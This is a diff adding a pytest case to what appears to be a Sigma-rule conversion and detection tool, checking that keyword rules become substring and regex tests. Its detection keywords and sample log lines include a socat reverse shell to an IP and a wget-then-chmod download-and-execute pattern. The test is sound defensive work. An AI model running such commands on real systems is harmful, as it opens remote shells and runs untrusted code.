@@ -9,6 +9,7 @@ import pytest
 
 from auditflow.backends.state import WindowState
 from auditflow.model import Event
+from auditflow.rules.conditions import compile_where
 from tests.sigma.helpers import convert_one, k8s_event, k8s_rule, matches
 
 SELECTIONS = """detection:
@@ -100,3 +101,35 @@ detection:
     assert not await matches(state, rule, linux_event("bash: rm -rf /tmp/x"))
     # a Kubernetes audit event is not a Linux log line
     assert not await matches(state, rule, k8s_event(verb="history -c"))
+
+
+async def test_substrings_become_substring_tests_that_the_detector_can_gate(tmp_path: Path, state: WindowState) -> None:
+    text = """title: shell commands
+id: 6f1e2d3c-0000-4000-8000-00000000bbbb
+status: test
+level: medium
+logsource: {product: linux}
+detection:
+  keywords:
+    - 'socat exec:'
+    - 'wget *; chmod +x'
+  condition: keywords
+"""
+    rule = convert_one(tmp_path.joinpath("a"), text)
+    spec = rule["where"]["details.event.original"]
+    # one wildcard-free keyword is a plain substring test; the other keeps its regex behind its
+    # longest literal part, so the rule has needles for every keyword
+    assert spec == {
+        "any": [
+            {"contains": "socat exec:", "ignore_case": True},
+            {"contains": "; chmod +x", "ignore_case": True, "regex": "(?is:wget .*; chmod \\+x)"},
+        ]
+    }
+    assert compile_where(rule["where"]).needles == ("details.event.original", frozenset({"socat exec:", "; chmod +x"}))
+    assert await matches(state, rule, linux_event("bash: SOCAT EXEC:/bin/sh tcp:1.2.3.4"))
+    assert await matches(state, rule, linux_event("bash: wget http://x/a; CHMOD +x a"))
+    assert not await matches(state, rule, linux_event("bash: curl x; chmod +x a"))
+    field = convert_one(
+        tmp_path.joinpath("b"), k8s_rule("detection:\n  s: {requestURI|contains|cased: /Exec}\n  condition: s\n")
+    )
+    assert field["where"]["details.kubernetes.audit.requestURI"] == {"contains": "/Exec"}
